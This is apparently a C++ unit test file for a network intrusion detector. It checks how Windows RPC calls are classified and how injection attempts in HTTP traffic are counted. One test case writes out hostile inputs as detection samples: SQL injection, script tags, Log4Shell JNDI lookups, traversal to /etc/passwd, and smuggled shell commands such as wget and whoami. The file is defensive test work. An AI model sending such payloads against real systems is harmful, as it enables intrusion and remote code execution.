// SPDX-License-Identifier: MIT
// app/rpc_effect.hpp and app/injection.hpp: which remote calls count as what, which text tries to run as code, and what
// resembles both but is everyday use; and what a flow sums up of them (app/traffic.hpp).
#include <doctest/doctest.h>

#include <string>
#include <string_view>

#include <mldefender/core/app/injection.hpp>
#include <mldefender/core/app/rpc_effect.hpp>
#include <mldefender/core/app/traffic.hpp>

#include "app_samples.hpp"
#include "support/packets.hpp"

using namespace mldefender;
using namespace mldefender::test;

namespace {

int injections(std::string_view text) {
    return detail::app::count_injections({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()});
}

app_news read(app_traffic& t, const five_tuple& way, bytes payload, bool forward = true) {
    packet p = packet_of(forward ? way : way.reversed(), 0, static_cast<std::uint32_t>(payload.size()));
    p.payload = payload;
    return read_payload(t, p, forward);
}
constexpr five_tuple web = tuple_of(ip_protocol::tcp, 40000, 80);
constexpr five_tuple high_port = tuple_of(ip_protocol::tcp, 40000, 49200);

// A request of DCE/RPC: allocation hint, context, operation.
frame rpc_request(unsigned operation) { return rpc(0, frame{}.le32(0).le16(0).le16(operation)); }

}  // namespace

TEST_CASE("calls that start something, and their neighbours that only ask") {
    using enum rpc_interface;
    for (const std::uint16_t create_or_start : std::initializer_list<std::uint16_t>{12, 19, 24, 31}) {
        CHECK(effect_of(svcctl, create_or_start, mask_of(svcctl)) == rpc_effect::execution);
    }
    for (const std::uint16_t open_or_query : std::initializer_list<std::uint16_t>{0, 6, 14, 15, 16, 17}) {
        CHECK(effect_of(svcctl, open_or_query, mask_of(svcctl)) == rpc_effect::none);
    }
    CHECK(effect_of(itaskscheduler, 1, 0) == rpc_effect::execution);
    CHECK(effect_of(itaskscheduler, 7, 0) == rpc_effect::none);
    CHECK(effect_of(atsvc, 0, 0) == rpc_effect::execution);
}

TEST_CASE("WMI and automation share a connection: numbers mean what the interfaces seen say") {
    using enum rpc_interface;
    CHECK(effect_of(wmi, 24, mask_of(wmi)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 24, mask_of(wmi) | mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(wmi, 20, mask_of(wmi)) == rpc_effect::none);  // a query
    CHECK(effect_of(dcom, 6, mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 6, mask_of(dcom) | mask_of(wmi)) == rpc_effect::none);  // WMI's log-in
    CHECK(effect_of(none, 24, 0) == rpc_effect::execution);                       // joined midway
    CHECK(effect_of(none, 23, 0) == rpc_effect::none);
}

TEST_CASE("an ordinary log-on to a domain counts only as a machine's log-in") {
    using enum rpc_interface;
    CHECK(effect_of(drsuapi, 0, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 12, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 3, 0) == rpc_effect::replication);
    CHECK(effect_of(epm, 3, 0) == rpc_effect::none);
    CHECK(effect_of(epm, 2, 0) == rpc_effect::enumeration);
    CHECK(effect_of(lsarpc, 76, 0) == rpc_effect::none);
    CHECK(effect_of(lsarpc, 43, 0) == rpc_effect::abuse);
    CHECK(effect_of(srvsvc, 15, 0) == rpc_effect::none);
    CHECK(effect_of(samr, 13, 0) == rpc_effect::enumeration);
    CHECK(effect_of(samr, 58, 0) == rpc_effect::abuse);
    CHECK(effect_of(netlogon, 26, 0) == rpc_effect::channel);
    CHECK(effect_of(netlogon, 45, 0) == rpc_effect::none);
    CHECK(effect_of(other, 12, 0) == rpc_effect::none);
}

TEST_CASE("clauses, tags, look-ups, climbing and commands are found, escaped or not") {
    CHECK(injections("/item?id=1%27+or+1%3D1") == 1);
    CHECK(injections("/item?id=1' and 'a'='a") == 1);
    CHECK(injections("/item?id=1'--") == 1);
    CHECK(injections("/item?id=-1+UNION+ALL+SELECT+name") == 1);
    CHECK(injections("/q?x=%3CScript%3Ealert(1)") == 1);
    CHECK(injections("name=%24%7Bjndi%3Aldap://a/b%7D") == 1);
    CHECK(injections("/q?x=${${lower:j}ndi:x}") >= 1);
    CHECK(injections("/show?file=../../../etc/passwd") == 1);
    CHECK(injections("/run?host=a;wget http://b/c") == 1);
    CHECK(injections("/run?host=a%7Cwhoami") == 1);
}

TEST_CASE("what people, pages and advertisements send is none") {
    CHECK(injections("") == 0);
    CHECK(injections("/search?q=rock+'n'+roll+and+blues") == 0);
    CHECK(injections("/search?q=trade+union+selection") == 0);
    CHECK(injections("/ad?price=${AUCTION_PRICE}&b=%7B%22a%22:[1,2]%7D") == 0);
    CHECK(injections("/../style.css") == 0);
    CHECK(injections("/a/../../b.png") == 0);
    CHECK(injections("/list?a=1;b=2;category=3") == 0);
    CHECK(injections("/x?html=%3Cb%3Ebold%3C/b%3E") == 0);
    CHECK(injections("/x?a=%") == 0);
    CHECK(injections("/x?a=%2") == 0);
    CHECK(injections("'") == 0);
    CHECK(injections("$") == 0);
    CHECK(injections("/x?long=" + std::string(600, 'a') + "' or 1=1") == 0);  // beyond what is looked at
}

TEST_CASE("a request counts for the interface bound before it") {
    app_traffic t;
    read(t, high_port, rpc_bind(svcctl_uuid));
    CHECK(t.rpc_bound == rpc_interface::svcctl);
    read(t, high_port, rpc_request(15));
    CHECK(t.rpc_executions == 0);
    read(t, high_port, rpc_request(12));
    read(t, high_port, rpc_request(19));
    CHECK(t.rpc_executions == 2);
    CHECK(t.rpc_abuses == 0);
}

TEST_CASE("machine log-ins are attempts; a row of them on one connection is abuse") {
    app_traffic t;
    t.rpc_bound = rpc_interface::netlogon;
    t.protocol = app_protocol::dcerpc;
    for (int i = 0; i < 9; ++i) CHECK(read(t, high_port, rpc_request(26)).attempts == 1);
    CHECK(t.attempts == 9);
    CHECK(t.rpc_abuses == 0);
    read(t, high_port, rpc_request(26));
    CHECK(t.rpc_channels == 10);
    CHECK(t.rpc_abuses == 1);
}

TEST_CASE("HTTP: what a program says about itself, as far as whole heads tell") {
    app_traffic t;
    read(t, web, text_of("GET /a HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Age"));
    CHECK(t.http_least_headers == 0);  // cut: nobody knows
    read(t, web, text_of("POST /a HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: tool\r\n\r\n"));
    CHECK(t.http_least_headers == 2);
    CHECK(t.http_agent_length == 4);
    CHECK(t.http_host_address);
    CHECK(t.http_posts == 1);
    read(t, web, text_of("GET /a HTTP/1.0\r\n\r\n"));
    CHECK(t.http_least_headers == 1);
    CHECK(t.http_injections == 0);
    read(t, web, text_of("GET /a?b=1'+or+1=1 HTTP/1.1\r\nHost: a\r\n\r\n"));
    CHECK(t.http_injections == 1);
    read(t, web, text_of("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://b}\r\n\r\n"));
    CHECK(t.http_injections == 2);
}

TEST_CASE("HTTP: a program is known by its first bytes behind the head") {
    app_traffic t;
    read(t, web, text_of("GET /a HTTP/1.1\r\nHost: a\r\n\r\n"));
    read(t, web, text_of("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nMZ......."), false);
    CHECK(t.http_programs == 1);
    read(t, web,
         text_of("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n\x7f"
                 "ELF....."),
         false);
    CHECK(t.http_programs == 2);
    read(t, web, text_of("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nMZ"), false);
    read(t, web, text_of("HTTP/1.1 200 OK\r\nX: MZ\r\n\r\n<html>MZ"), false);
    CHECK(t.http_programs == 2);
}

TEST_CASE("ICMP: requests that tools send, in any packet of the flow") {
    app_traffic t;
    packet p = packet_of(tuple_of(ip_protocol::icmp, 0, 0), 0, 8);
    p.icmp_type = 8;
    (void)read_payload(t, p, true);
    CHECK_FALSE(t.icmp_odd);
    p.icmp_code = 3;
    (void)read_payload(t, p, true);
    CHECK(t.icmp_odd);
    app_traffic mask;
    p.icmp_type = 17;
    p.icmp_code = 0;
    (void)read_payload(mask, p, true);
    CHECK(mask.icmp_odd);
}
